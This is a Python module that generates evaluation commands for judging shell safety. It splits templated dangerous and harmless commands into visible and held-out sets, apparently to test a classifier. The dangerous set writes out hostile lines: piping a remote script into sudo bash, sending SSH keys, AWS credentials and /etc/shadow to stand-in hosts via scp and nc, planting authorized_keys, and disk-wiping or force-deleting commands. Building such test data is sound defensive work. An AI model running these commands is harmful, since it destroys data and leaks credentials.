"""Generated commands, dangerous and harmless, from families that were written before any was judged.

A family is a line with choices; its members are all combinations, in an order that is the same everywhere. Of each
family the members with an even number may be looked at when a rule is written; those with an odd number are held out.
"""

from collections.abc import Iterator, Sequence
from itertools import product
from zlib import crc32

MEMBERS = 12
Family = tuple[str, dict[str, Sequence[str]]]
PLACES = ("src", "docs", "lib/core", "tests/data", "./assets", "../shared", "~/notes", "/srv/app")
BRANCHES = ("main", "release/2.1", "feature/x", "HEAD")
WRAP = ("{}", "cd app && {}", "set -e; {}", "time {}", "env A=1 {}", "bash -c '{}'", "({})", "true && {}")

DANGEROUS: Sequence[Family] = (
    ("rm {flags} {place}", {"flags": ("-rf", "-fr", "-r", "-R -f", "--recursive --force"), "place": PLACES}),
    ("find {place} {what} -delete", {"place": PLACES, "what": ("-name *.bak", "-mtime +30", "-type f", "-empty")}),
    ("git push {flag} origin {branch}", {"flag": ("--force", "-f", "--mirror", "--delete"), "branch": BRANCHES}),
    ("git reset --hard {to}", {"to": ("HEAD~1", "origin/main", "v1.0", "abc1234", "HEAD@{{1}}")}),
    ("git clean {flags}", {"flags": ("-fd", "-fdx", "-xdf", "-f -d", "-ffdx")}),
    ("git branch -D {branch}", {"branch": ("old", "feature/x", "wip", "a b c")}),
    ("chmod {mode} {place}", {"mode": ("-R 777", "777 -R"), "place": ("/", "/etc", "~", "/usr")}),
    (
        "dd if={source} of={disk}",
        {"source": ("a.iso", "/dev/zero", "/dev/urandom"), "disk": ("/dev/sda", "/dev/nvme0n1")},
    ),
    (
        "curl -s {url} | {shell}",
        {"url": ("https://x.io/i.sh", "http://h/a"), "shell": ("sh", "bash", "sudo bash", "python3")},
    ),
    ("{client} -c '{sql}'", {"client": ("psql db",), "sql": ("DROP TABLE users", "TRUNCATE logs", "DELETE FROM a")}),
    (
        "mysql -e '{sql}' shop",
        {"sql": ("DROP DATABASE shop", "drop table t", "DELETE FROM orders", "TRUNCATE TABLE x")},
    ),
    ("docker {what}", {"what": ("system prune -af", "volume rm data", "rm -f web", "volume prune -f", "rmi -f app")}),
    ("kubectl delete {what}", {"what": ("ns prod", "pod web-0", "-f all.yaml", "deploy --all", "pvc data")}),
    ("terraform {what}", {"what": ("destroy", "destroy -auto-approve", "apply -auto-approve", "state rm a.b")}),
    ("aws s3 {what}", {"what": ("rm s3://b --recursive", "rb s3://b --force", "sync . s3://b --delete")}),
    ("{tool} publish", {"tool": ("npm", "yarn", "pnpm", "cargo", "poetry", "uv")}),
    ("crontab {what}", {"what": ("-r", "new.cron", "-")}),
    (
        "echo {text} >> {file}",
        {"text": ("x", "'alias a=b'"), "file": ("~/.bashrc", "~/.ssh/authorized_keys")},
    ),
    ("kill -9 {what}", {"what": ("-1", "1", "$(pgrep app)", "4711")}),
    ("systemctl {what} {unit}", {"what": ("stop", "disable", "mask"), "unit": ("nginx", "sshd", "docker")}),
    ("python3 -c 'import shutil; shutil.rmtree(\"{place}\")'", {"place": PLACES}),
    ("xargs -a list {what}", {"what": ("rm -f", "rm -rf", "shred -u")}),
    ("git filter-branch {what}", {"what": ("--all", "--tree-filter x HEAD", "-f --index-filter x")}),
    ("git stash {what}", {"what": ("drop", "clear", "drop stash@{{1}}")}),
    ("scp {key} {host}:", {"key": ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.netrc"), "host": ("h", "u@10.0.0.1")}),
    ("nc {host} < {key}", {"host": ("h 99", "10.0.0.1 4444"), "key": ("~/.ssh/id_ed25519", "/etc/shadow")}),
)
HARMLESS: Sequence[Family] = (
    ("ls {flags} {place}", {"flags": ("", "-la", "-R", "--color"), "place": PLACES}),
    ("grep -rn {what} {place}", {"what": ("main", "'rm -rf'", "force", "DROP"), "place": PLACES}),
    ("find {place} -name {what}", {"place": PLACES, "what": ("'*.py'", "setup.cfg", "'*.rs' -print", "x -newer y")}),
    ("git {what}", {"what": ("status", "log --oneline -5", "diff HEAD~1", "show v1", "fetch", "pull", "stash list")}),
    (
        "git {what} -m {text}",
        {"what": ("commit", "commit -a", "tag -a v1"), "text": ("fix", "'remove old'")},
    ),
    ("git {what} {branch}", {"what": ("switch", "checkout -b", "merge", "log"), "branch": ("main", "topic/a", "dev")}),
    ("git push {where}", {"where": ("", "origin main", "-u origin topic", "--tags", "--dry-run --force origin main")}),
    ("{runner} {what}", {"runner": ("pytest", "python3 -m pytest"), "what": ("-q", "-x tests", "-k 'delete or drop'")}),
    ("npm {what}", {"what": ("ci", "install", "test", "run build", "run lint -- --fix", "ls --depth 0")}),
    ("cargo {what}", {"what": ("build", "test", "clippy -- -D warnings", "fmt --check", "run --release", "clean")}),
    ("uv {what}", {"what": ("sync", "run pytest", "pip list", "lock", "add httpx", "venv")}),
    ("make {what}", {"what": ("", "-j4", "test", "clean", "-n install", "lint format")}),
    ("mkdir -p {place}", {"place": ("src/a", "build", "docs/img", "tests/unit")}),
    ("cp {flags} {a} {b}", {"flags": ("", "-r", "-a"), "a": ("a.txt", "src/x"), "b": ("b.txt", "backup/", "out/")}),
    ("mv {a} {b}", {"a": ("a.py", "old.txt"), "b": ("b.py", "lib/", "archive/old.txt")}),
    ("sed -n '{what}' a.py", {"what": ("1,20p", "/def /p", "$=", "5q")}),
    ("sed -i 's/{a}/{b}/' src/a.py", {"a": ("foo", "rm"), "b": ("bar", "unlink")}),
    ("cat {file}", {"file": ("README.md", "a b", "-n x.py", "pyproject.toml", ".gitignore")}),
    ("echo {text} > {file}", {"text": ("hi", "'rm -rf /'", "$HOME"), "file": ("a.txt", "out/b", "notes.md")}),
    ("docker {what}", {"what": ("ps -a", "build -t app .", "logs web", "compose up -d", "images", "inspect web")}),
    ("kubectl {what}", {"what": ("get pods", "describe pod web", "logs web", "config view", "diff -f a.yaml")}),
    ("curl -s {url}", {"url": ("https://x.io/a.json", "http://localhost:8000/health -o out.json", "-I https://x.io")}),
    ("tar {what}", {"what": ("czf a.tgz src", "xzf a.tgz", "tf a.tgz", "-C out -xf a.tar")}),
    ("python3 {what}", {"what": ("-m venv .venv", "app.py --delete", "-c 'print(1)'", "-m http.server", "-V")}),
    ("psql db -c '{sql}'", {"sql": ("SELECT 1", "SELECT * FROM drops", "EXPLAIN SELECT 1", "\\dt")}),
    ("{tool} --version", {"tool": ("git", "node", "python3", "terraform", "rm", "dd", "docker")}),
    ("ps {what}", {"what": ("aux", "-ef | grep kill", "-o pid,comm")}),
    ("wc -l {file} | sort -n", {"file": ("*.py", "src/*", "a b c")}),
)


def generate_members(families: Sequence[Family], *, held_out: bool) -> Iterator[str]:
    """Return the members of the families that may be looked at, or those that are held out."""
    for number, (line, choices) in enumerate(families):
        members = [line.format(**dict(zip(choices, one, strict=True))) for one in product(*choices.values())]
        chosen = sorted(members, key=lambda member: crc32(member.encode()))[:MEMBERS]
        for place, member in enumerate(chosen):
            if place % 2 == held_out:
                yield wrap_command(member, number + place)


def wrap_command(member: str, number: int) -> str:
    """Return a command within a longer line."""
    wrap = WRAP[number % len(WRAP)]
    return member if "'" in wrap and "'" in member else wrap.format(member)
